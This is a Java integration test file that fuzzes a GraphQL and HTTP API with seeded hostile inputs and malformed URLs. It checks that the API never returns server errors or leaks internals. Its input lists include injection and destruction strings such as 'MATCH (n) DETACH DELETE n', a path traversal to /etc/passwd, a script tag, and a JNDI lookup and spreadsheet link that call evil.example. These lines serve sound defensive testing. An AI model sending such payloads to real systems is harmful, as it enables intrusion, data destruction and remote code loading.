package org.datatrail.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import graphql.schema.GraphQLArgument;
import graphql.schema.GraphQLEnumType;
import graphql.schema.GraphQLFieldDefinition;
import graphql.schema.GraphQLInputObjectField;
import graphql.schema.GraphQLInputObjectType;
import graphql.schema.GraphQLInputType;
import graphql.schema.GraphQLList;
import graphql.schema.GraphQLNonNull;
import graphql.schema.GraphQLObjectType;
import graphql.schema.GraphQLOutputType;
import graphql.schema.GraphQLScalarType;
import graphql.schema.GraphQLSchema;
import graphql.schema.GraphQLType;
import graphql.schema.GraphQLTypeUtil;
import org.datatrail.support.DataTrailTest;
import org.datatrail.support.TestDatabase;
import org.datatrail.support.Testers;
import org.junit.jupiter.api.Test;
import org.neo4j.driver.Driver;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.graphql.execution.GraphQlSource;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.EntityExchangeResult;
import org.springframework.test.web.reactive.server.WebTestClient;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Generated hostile values (a fixed seed, so every run sends the same requests) to every argument of every query and
 * mutation field (and the arguments of fields inside them), every report parameter and every HTTP route, as literals
 * and as variables: no answer is a 5xx or an INTERNAL_ERROR, no message shows a library's internals, every refused HTTP
 * request gets a JSON message, and the graph is unchanged at the end (mutations are sent anonymously, or by an
 * investigator citing a source that does not exist, so they are refused).
 */
@DataTrailTest
class FuzzIntegrationTests {

    static final long SEED = 18;
    static final int PER_ARGUMENT = 12;
    static final JsonMapper JSON = JsonMapper.builder().build();

    /** Text a caller might send to break something: injections, controls, direction overrides, huge and odd values. */
    static final List<String> HOSTILE_TEXT = List.of("", " ", "lifecycle-marketing", "labour-party", "experian", "nope", "' OR 1=1 --",
            "\") RETURN 1 //", "x}) DETACH DELETE n //", "MATCH (n) DETACH DELETE n", "\0", "a\0b", "\u202Eevil", "\u200B", "\uFEFF",
            "😀", "../../etc/passwd", "%00", "<script>alert(1)</script>", "${jndi:ldap://evil.example/x}", "=HYPERLINK(\"http://evil.example\")",
            "2017-02-30", "2017-05-05", "+999999999-12-31", "-0001-01-01", "null", "undefined", "NaN", "-1", "2147483648", "x".repeat(10_000),
            IntStream.range(0, 300).mapToObj(i -> "w" + i).collect(Collectors.joining(" ")), "eyJvZmZzZXQiOi0xfQ==", "bm90IGEgY3Vyc29y",
            "*", "a*", "\\", "\"", "'", "`", "\n\r\t", "ＦＵＬＬ", "e\u0301");

    static final List<Object> HOSTILE_NUMBERS = List.of(0, -1, 1, 2, 8, 9, 100, 101, Integer.MAX_VALUE, Integer.MIN_VALUE, 2147483648L,
            -9223372036854775808L, 1.5, 1e308, -0.0);

    @LocalServerPort
    int port;

    @Autowired
    Driver driver;

    @Autowired
    GraphQlSource graphQlSource;

    final Random random = new Random(SEED);
    final List<String> failures = new ArrayList<>();
    int requests;
    WebTestClient client;

    @Test
    void hostileValuesEverywhereGetNo5xxAndLeaveTheGraphAsItWas() {
        var before = TestDatabase.snapshot(driver);

        fuzzGraphQlArguments();
        fuzzReportParameters();
        fuzzHttpRoutes();

        assertThat(failures).as(requests + " requests").isEmpty();
        assertThat(requests).isGreaterThan(1_000);
        assertThat(TestDatabase.snapshot(driver)).isEqualTo(before);
    }

    // ---- GraphQL: every argument of every field, as a variable and as a literal

    private void fuzzGraphQlArguments() {
        GraphQLSchema schema = graphQlSource.schema();
        for (GraphQLFieldDefinition field : schema.getQueryType().getFieldDefinitions()) {
            fuzzField("query", "", field, "");
        }
        // fields with arguments inside the answers, reached through a parent that exists in the seed
        Map<String, String[]> parents = Map.of("Organisation", new String[] { "organisation(id: \"lifecycle-marketing\") { ", " }" },
                "Document", new String[] { "transfer(id: \"transfer-lcmb-to-experian\") { evidence { source { document { ", " } } } }" });
        for (GraphQLType type : schema.getAllTypesAsList()) {
            if (type instanceof GraphQLObjectType object && parents.containsKey(object.getName())) {
                for (GraphQLFieldDefinition field : object.getFieldDefinitions()) {
                    if (!field.getArguments().isEmpty()) {
                        String[] around = parents.get(object.getName());
                        fuzzField("query", around[0], field, around[1]);
                    }
                }
            }
        }
        for (GraphQLFieldDefinition field : schema.getMutationType().getFieldDefinitions()) {
            fuzzField("mutation", "", field, "");
        }
    }

    private void fuzzField(String operation, String before, GraphQLFieldDefinition field, String after) {
        for (int i = 0; i < PER_ARGUMENT * Math.max(1, field.getArguments().size()); i++) {
            boolean literal = random.nextInt(3) == 0;
            boolean mutation = operation.equals("mutation");
            // an investigator's mutation cites a source that does not exist, so the validation refuses it whatever else it holds
            String token = mutation && random.nextBoolean() ? Testers.INVESTIGATOR_TOKEN : null;
            Map<String, Object> variables = new LinkedHashMap<>();
            List<String> declarations = new ArrayList<>();
            List<String> arguments = new ArrayList<>();
            for (GraphQLArgument argument : field.getArguments()) {
                if (!GraphQLTypeUtil.isNonNull(argument.getType()) && random.nextInt(4) == 0) {
                    continue;
                }
                Object value = value(argument.getType(), 0);
                if (token != null && value instanceof Map<?, ?> input) {
                    @SuppressWarnings("unchecked")
                    Map<String, Object> refused = (Map<String, Object>) input;
                    if (!((GraphQLInputObjectType) GraphQLTypeUtil.unwrapAll(argument.getType())).getFields().stream()
                        .anyMatch(f -> f.getName().equals("evidence"))) {
                        token = null; // a record without evidence (a source) could be written: sent anonymously instead
                    }
                    refused.put("evidence", List.of(Map.of("source", "fuzz-no-such-source", "quote", text())));
                }
                if (literal) {
                    arguments.add(argument.getName() + ": " + literal(value));
                }
                else {
                    declarations.add("$" + argument.getName() + ": " + GraphQLTypeUtil.simplePrint(argument.getType()));
                    arguments.add(argument.getName() + ": $" + argument.getName());
                    variables.put(argument.getName(), value);
                }
            }
            String document = operation + (declarations.isEmpty() ? "" : "(" + String.join(", ", declarations) + ")") + " { " + before
                    + field.getName() + (arguments.isEmpty() ? "" : "(" + String.join(", ", arguments) + ")") + selection(field.getType()) + after
                    + " }";
            Map<String, Object> body = new LinkedHashMap<>();
            body.put("query", document);
            body.put("variables", variables);
            graphQl(body, token);
        }
    }

    private static String selection(GraphQLOutputType type) {
        return GraphQLTypeUtil.unwrapAll(type) instanceof GraphQLScalarType || GraphQLTypeUtil.unwrapAll(type) instanceof GraphQLEnumType
                ? "" : " { __typename }";
    }

    /** A value for {@code type}: mostly of the type (hostile within it), sometimes of another type, sometimes null. */
    private Object value(GraphQLInputType type, int depth) {
        if (random.nextInt(12) == 0) {
            return null;
        }
        if (random.nextInt(10) == 0) {
            return random.nextBoolean() ? text() : number(); // the wrong type
        }
        GraphQLType unwrapped = GraphQLTypeUtil.unwrapNonNull(type);
        if (unwrapped instanceof GraphQLList list) {
            int size = random.nextInt(8) == 0 ? 300 : random.nextInt(3);
            List<Object> items = new ArrayList<>();
            for (int i = 0; i < size; i++) {
                items.add(value((GraphQLInputType) list.getWrappedType(), depth + 1));
            }
            return items;
        }
        if (unwrapped instanceof GraphQLEnumType enumType) {
            return random.nextInt(4) == 0 ? "NOPE" : enumType.getValues().get(random.nextInt(enumType.getValues().size())).getName();
        }
        if (unwrapped instanceof GraphQLInputObjectType object) {
            Map<String, Object> fields = new LinkedHashMap<>();
            for (GraphQLInputObjectField f : object.getFields()) {
                if (GraphQLTypeUtil.isNonNull(f.getType()) || random.nextBoolean()) {
                    fields.put(f.getName(), depth > 3 ? null : value(f.getType(), depth + 1));
                }
            }
            if (random.nextInt(10) == 0) {
                fields.put("noSuchField", text());
            }
            return fields;
        }
        return switch (((GraphQLScalarType) unwrapped).getName()) {
            case "Int", "Long", "Float" -> number();
            case "Boolean" -> random.nextInt(5) == 0 ? "yes" : random.nextBoolean();
            default -> text();
        };
    }

    private String text() {
        return HOSTILE_TEXT.get(random.nextInt(HOSTILE_TEXT.size()));
    }

    private Object number() {
        return HOSTILE_NUMBERS.get(random.nextInt(HOSTILE_NUMBERS.size()));
    }

    /** The value as a GraphQL literal: what a caller writes inline in the document. */
    private static String literal(Object value) {
        return switch (value) {
            case null -> "null";
            case String s -> JSON.writeValueAsString(s);
            case List<?> list -> list.stream().map(FuzzIntegrationTests::literal).collect(Collectors.joining(", ", "[", "]"));
            case Map<?, ?> map -> map.entrySet().stream().map(e -> e.getKey() + ": " + literal(e.getValue())).collect(Collectors.joining(", ", "{", "}"));
            default -> String.valueOf(value);
        };
    }

    private void graphQl(Object body, String token) {
        EntityExchangeResult<byte[]> result = exchange(HttpMethod.POST, "/graphql", MediaType.APPLICATION_JSON, JSON.writeValueAsBytes(body), token);
        String answer = text(result);
        if (result.getStatus().is2xxSuccessful()) {
            JsonNode errors = JSON.readTree(answer).path("errors");
            for (JsonNode error : errors) {
                String message = error.path("message").asString("");
                if ("INTERNAL_ERROR".equals(error.path("extensions").path("classification").asString(""))
                        // (a setting's name, datatrail.graphql.…, is ours, not graphql-java's)
                        || message.matches("(?s).*(Value\\{|because of :|Exception|java\\.|(?<!datatrail\\.)graphql\\.|org\\.neo4j).*")) {
                    failures.add(describe(body) + " -> " + message);
                }
            }
        }
    }

    // ---- reports: every parameter of every report

    private void fuzzReportParameters() {
        JsonNode shelf = JSON.readTree(text(exchange(HttpMethod.GET, "/reports", null, null, Testers.ANALYST_TOKEN)));
        for (JsonNode report : shelf.path("reports")) {
            for (JsonNode parameter : report.path("parameters")) {
                for (int i = 0; i < PER_ARGUMENT; i++) {
                    Object value = random.nextBoolean() ? text() : number();
                    String uri = "/reports/" + report.path("name").asString() + "?" + parameter.path("name").asString() + "={v}&format={f}";
                    String format = List.of("json", "csv", "md", "xml", "").get(random.nextInt(5));
                    exchange(HttpMethod.GET, uri, null, null, Testers.ANALYST_TOKEN, value, format);
                }
            }
            exchange(HttpMethod.GET, "/reports/" + report.path("name").asString() + "?noSuchParameter={v}", null, null, Testers.ANALYST_TOKEN, text());
        }
    }

    // ---- HTTP: every route with odd methods, bodies, content types and tokens

    private void fuzzHttpRoutes() {
        List<String> paths = List.of("/", "/index.html", "/graphql", "/graphiql", "/graphiql/", "/reports", "/reports/broker-hubs",
                "/reports/no-such-report", "/sources/fuzz-no-such-source/document", "/sources/000_d54d1cf2e139a545/document", "/error",
                "/workbench/workbench.js", "/no-such-page", "/graphql/extra", "/actuator/health", "/reports/%2e%2e/etc");
        List<HttpMethod> methods = List.of(HttpMethod.GET, HttpMethod.POST, HttpMethod.PUT, HttpMethod.DELETE, HttpMethod.PATCH, HttpMethod.OPTIONS);
        List<String> bodies = List.of("", "null", "[]", "{}", "\"text\"", "1", "{\"query\": null}", "{\"query\": 1}", "{\"query\": \"{\"}",
                "{\"query\": \"{ __typename }\", \"variables\": \"x\"}", "{\"query\": \"{ __typename }\", \"variables\": [1]}",
                "{\"query\": \"{ __typename }\", \"operationName\": 5}", "{\"query\": \"query($n: Int) { search(text: \\\"x\\\", first: $n) { id } }\", "
                        + "\"variables\": {\"n\": 2147483648}}",
                "not json", "{\"query\": \"" + "{".repeat(5_000) + "\"}", "\0\0\0", "{\"query\": \"{ search(text: \\\"" + "w ".repeat(300) + "\\\") { id } }\"}");
        List<MediaType> types = List.of(MediaType.APPLICATION_JSON, MediaType.TEXT_PLAIN, MediaType.valueOf("application/graphql"),
                MediaType.MULTIPART_FORM_DATA, MediaType.APPLICATION_FORM_URLENCODED, MediaType.valueOf("x/y"), MediaType.APPLICATION_PDF);
        List<String> tokens = java.util.Arrays.asList(null, Testers.ANALYST_TOKEN, "not-a-token");
        for (String path : paths) {
            for (HttpMethod method : methods) {
                for (int i = 0; i < 4; i++) {
                    String body = bodies.get(random.nextInt(bodies.size()));
                    MediaType type = random.nextInt(5) == 0 ? null : types.get(random.nextInt(types.size()));
                    EntityExchangeResult<byte[]> result = exchange(method, path, type, body.getBytes(java.nio.charset.StandardCharsets.UTF_8),
                            tokens.get(random.nextInt(tokens.size())));
                    int status = result.getStatus().value();
                    boolean refused = status >= 400 && status != 401 && method != HttpMethod.OPTIONS;
                    if (refused && !hasJsonMessage(result)) {
                        failures.add(method + " " + path + " (" + type + ", " + abbreviate(body) + ") -> " + status + " without a JSON message: "
                                + abbreviate(text(result)));
                    }
                }
            }
        }
    }

    /**
     * URLs Tomcat itself refuses before the app sees them (encoded dot segments, broken escapes, path parameters on dot
     * segments), sent byte for byte over a socket, as HTTP/1.0 so the answer is not chunked (an HTTP client would
     * normalise or re-encode them): each gets a 4xx and the app's JSON with a message, never Tomcat's HTML page or name.
     */
    @Test
    void malformedUrlsRefusedByTomcatAnswerJson() throws Exception {
        List<String> targets = List.of("/%2e%2e/", "/%2e/", "/reports/%2e%2e/etc", "/%2E%2e/graphql", "/graphiql/%2e%2e/%2e%2e/etc/passwd",
                "/%zz", "/%", "/abc%2", "/..;/", "/graphql/..;/graphiql", "/%2f", "/a%00b", "/a%5c..%5cb", "/;jsessionid=x/../graphql",
                "/a|b", "/{x}", "/a\"b", "/graphql?q=<x>");
        List<String> wrong = new ArrayList<>();
        for (String target : targets) {
            String answer = rawGet(target);
            int split = answer.indexOf("\r\n\r\n");
            String head = split < 0 ? answer : answer.substring(0, split);
            String body = split < 0 ? "" : answer.substring(split + 4);
            String message;
            try {
                message = JSON.readTree(body).path("message").asString("");
            }
            catch (RuntimeException notJson) {
                message = "";
            }
            if (!head.matches("(?s)HTTP/1\\.[01] 4\\d\\d .*") || !head.toLowerCase(java.util.Locale.ROOT).contains("content-type: application/json")
                    || message.isBlank() || answer.contains("Tomcat") || answer.toLowerCase(java.util.Locale.ROOT).contains("<html")) {
                wrong.add(target + " -> " + abbreviate(answer));
            }
        }
        assertThat(wrong).isEmpty();
    }

    private String rawGet(String target) throws java.io.IOException {
        try (java.net.Socket socket = new java.net.Socket("localhost", port)) {
            socket.setSoTimeout(30_000);
            socket.getOutputStream().write(("GET " + target + " HTTP/1.0\r\nHost: localhost\r\n\r\n")
                .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
            return new String(socket.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
        }
    }

    private static boolean hasJsonMessage(EntityExchangeResult<byte[]> result) {
        try {
            return !JSON.readTree(text(result)).path("message").asString("").isBlank();
        }
        catch (RuntimeException notJson) {
            return false;
        }
    }

    // ---- sending

    private EntityExchangeResult<byte[]> exchange(HttpMethod method, String uri, MediaType type, byte[] body, String token, Object... uriValues) {
        requests++;
        if (client == null) {
            client = WebTestClient.bindToServer().baseUrl("http://localhost:" + port).responseTimeout(Duration.ofSeconds(120)).build();
        }
        var request = client.method(method).uri(uri, uriValues);
        if (token != null) {
            request.header("Authorization", "Bearer " + token);
        }
        if (type != null) {
            request.contentType(type);
        }
        var exchanged = body == null ? request.exchange() : request.bodyValue(body).exchange();
        EntityExchangeResult<byte[]> result = exchanged.expectBody().returnResult();
        if (result.getStatus().is5xxServerError()) {
            failures.add(method + " " + result.getUrl() + " " + (body == null ? "" : abbreviate(new String(body, java.nio.charset.StandardCharsets.UTF_8)))
                    + " -> " + result.getStatus() + ": " + abbreviate(text(result)));
        }
        return result;
    }

    private static String text(EntityExchangeResult<byte[]> result) {
        byte[] body = result.getResponseBody();
        return body == null ? "" : new String(body, java.nio.charset.StandardCharsets.UTF_8);
    }

    private static String describe(Object body) {
        return abbreviate(JSON.writeValueAsString(body));
    }

    private static String abbreviate(String text) {
        return text.length() > 300 ? text.substring(0, 300) + "…(" + text.length() + " characters)" : text;
    }
}
